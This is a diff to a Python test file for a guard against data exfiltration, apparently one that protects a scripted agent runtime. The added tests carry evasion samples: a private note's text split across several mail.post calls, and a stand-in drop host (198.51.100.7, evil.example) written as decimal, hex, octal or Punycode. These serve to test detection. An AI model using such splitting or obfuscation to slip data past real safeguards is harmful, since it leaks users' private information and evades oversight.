@@ -434,6 +434,18 @@ def test_a_private_text_in_disguise_asks(runtime: Runtime, script: str) -> None:
     assert "contains the text of note" in refusal(runtime, script)
 
 
+@pytest.mark.parametrize("is_split", [False, True], ids=["one script", "two scripts"])
+def test_a_private_text_in_pieces_over_several_calls_asks(runtime: Runtime, *, is_split: bool) -> None:
+    """Once they are together as long as a long piece; a word that a private text has, too, is none."""
+    pieces = [f"{MAIL}.post({{ text = {NOTE}:sub({first}, {first + 7}) }})" for first in (1, 9)]
+    scripts = pieces if is_split else [" ".join(pieces)]
+    seen = SessionMemory()
+    assert refusal(runtime, f'{NOTE} {MAIL}.post({{ text = "safe" }})'.replace(NOTE, f"local _ = {NOTE}"), seen) == ""
+    said = [refusal(runtime, script, seen) for script in scripts]
+    assert said[:-1] == [""] * (len(scripts) - 1)
+    assert "text contains the text of note" in said[-1]
+
+
 @pytest.mark.parametrize(
     ("text", "written"),
     [
@@ -452,11 +464,19 @@ def test_a_number_is_the_same_in_every_spelling(runtime: Runtime, text: str, wri
 
 @pytest.mark.parametrize(
     ("text", "written"),
-    [("our host is evil.example", "me@in.evil.example"), ("m@bücher.example", "me@xn--bcher-kva.example")],
+    [
+        ("our host is evil.example", "me@in.evil.example"),
+        ("m@bücher.example", "me@xn--bcher-kva.example"),
+        ("our host is 198.51.100.7", "https://3325256711/drop"),
+        ("our host is 198.51.100.7", "http://0xC6336407/drop"),
+        ("our host is 198.51.100.7", "http://0306.063.0144.07/drop"),
+        ("see http://3325256711/", "https://198.51.100.7/drop"),
+        ("see http://c6336407/ in hex", "https://198.51.100.7/drop"),
+    ],
 )
 def test_a_host_is_the_same_in_every_spelling(runtime: Runtime, text: str, written: str) -> None:
-    """Also as the parent of another, and in Punycode."""
-    assert "which comes from" in refusal(runtime, f'{SEND}({{ to = "{written}" }})', session(runtime, page(text)))
+    """Also as the parent of another, in Punycode, and as the number of an IP address."""
+    assert " comes from " in refusal(runtime, f'{SEND}({{ to = "{written}" }})', session(runtime, page(text)))
 
 
 def test_neighbours_below_one_domain_are_not_the_same(runtime: Runtime) -> None:
